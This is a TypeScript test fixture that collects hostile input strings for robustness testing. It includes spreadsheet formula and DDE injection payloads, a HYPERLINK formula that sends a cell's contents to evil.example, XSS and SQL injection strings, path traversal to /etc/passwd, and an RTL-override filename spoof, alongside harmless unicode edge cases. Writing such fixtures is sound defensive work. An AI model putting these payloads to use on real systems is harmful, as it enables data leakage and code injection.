/** Texts that people really paste and that break careless software. None holds a lone surrogate or a secret. */
export const HOSTILE = {
  formula: "=cmd|' /C calc'!A0",
  hyperlink: '=HYPERLINK("https://evil.example/?leak="&A1,"Click to renew")',
  plus: "+SUM(1+1)*cmd|'/C notepad'!A1",
  minus: "-2+3+cmd|'/C calc'!A0",
  at: '@SUM(1,2)',
  tab: '\t=1+1',
  rtl: 'تقرير الشحن \u202Egnp.exe\u202C تم',
  hebrew: 'שחרור דחוף לפני סוף השבוע',
  emoji: 'Ship it 🚀👩🏽‍🚀🏳️‍🌈 before the 🎄 freeze',
  combining: 'Z̷̢̛a̸̡l̶̨g̵̢o̴ rollout é vs e\u0301',
  control: 'bell\u0007 null-free \u0001\u001b[31mred\u001b[0m',
  lines: 'first line\r\nsecond line\nthird "quoted", with, commas; and\ttabs',
  markup: '<img src=x onerror=alert(1)>&amp;<script>alert(1)</script>',
  odd: '\u{1F469}\u200D\u{1F4BB} \uFEFFzero\u200Bwidth \u2028line\u2029paragraph 𝕱𝖗𝖆𝖐𝖙𝖚𝖗 ﷽ İıẞß',
  sql: "Robert'); DROP TABLE evidence;--",
  path: '..\\..\\..\\Windows\\System32\\ ../../../etc/passwd',
} as const

/** The same texts as a list. */
export const HOSTILE_TEXTS: readonly string[] = Object.values(HOSTILE)

/** 40,000 characters: more than an Excel cell holds (32,767). */
export function endless(): string {
  const line = 'Set 418 config vars after the great tariff import; see the change record for each one. '
  return line.repeat(Math.ceil(40_000 / line.length)).slice(0, 40_000)
}
